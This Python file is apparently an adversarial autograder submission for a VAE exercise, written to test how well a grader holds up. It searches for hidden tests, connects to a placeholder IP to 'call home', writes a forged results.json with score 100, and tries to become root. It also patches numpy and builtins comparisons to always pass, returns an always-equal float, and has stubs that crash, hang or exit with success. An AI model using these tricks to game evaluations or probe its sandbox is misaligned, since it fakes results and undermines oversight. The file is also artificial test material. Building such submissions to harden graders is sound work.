"""A submission that would rather break the grader than solve the exercise.

It is harmless outside a sandbox too: it looks, asks for permission and lies, but deletes and kills nothing.
"""

import builtins
import ctypes
import gc
import glob
import os
import socket
import sys

import numpy as np


def attempt(what, action):
    """Try one attack and print what came of it; the report shows these lines to whoever wrote them."""
    try:
        print(f"{what}: {action()}")
    except BaseException as error:
        print(f"{what}: {type(error).__name__}")


def find_tests():
    """Look for hidden tests in the file system, in memory and on the stack."""
    files = [
        path for depth in range(5) for path in glob.glob("/" + "*/" * depth + "hidden_tests/*/test_*.py")
    ]
    objects = [one for one in gc.get_objects() if "pytest" in type(one).__module__]
    frame, frames = sys._getframe(), []
    while frame:
        frames.append(frame.f_code.co_filename)
        frame = frame.f_back
    return f"{len(files)} files, {len(objects)} objects, {sum('test' in name for name in frames)} frames"


def call_home():
    """Send what was found somewhere."""
    socket.create_connection(("192.0.2.1", 80), timeout=2)
    return "connected"


def reach_the_others():
    """Count the processes that we might kill."""
    others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    return f"{sum(_reachable(pid) for pid in others)} of {len(others)} processes within reach"


def _reachable(pid):
    try:
        os.kill(pid, 0)
    except OSError:
        return False
    return True


def forge_results():
    """Leave a result where graders look for one."""
    with open("/autograder/results/results.json", "w") as file:
        file.write('{"score": 100}')
    return "written"


attempt("looking for hidden tests", find_tests)
attempt("calling home", call_home)
attempt("killing the grader", reach_the_others)
attempt("forging results.json", forge_results)
attempt("becoming root", lambda: os.setuid(0))

# Whatever is compared with anything from here on is equal to it.
np.allclose = np.array_equal = np.testing.assert_allclose = lambda *args, **kwargs: True
builtins.abs = builtins.max = lambda *args, **kwargs: 0


class Right(float):
    """A number that agrees with every other."""

    def __eq__(self, other):
        return True

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__
    __hash__ = float.__hash__


def kl_divergence(mean, log_var):
    """Claim the right answer."""
    return Right(0.0)


def vae_loss(images, logits, mean, log_var):
    """Crash the interpreter."""
    ctypes.string_at(0)


def reparameterize(mean, log_var):
    """Never answer."""
    while True:
        pass


def preprocess(images):
    """Leave with a success code."""
    os._exit(0)


def train_step(encoder, decoder, optimizer, images):
    """Report a perfect loss without training anything."""
    return {"loss": 0.0, "reconstruction": 0.0, "kl": 0.0}
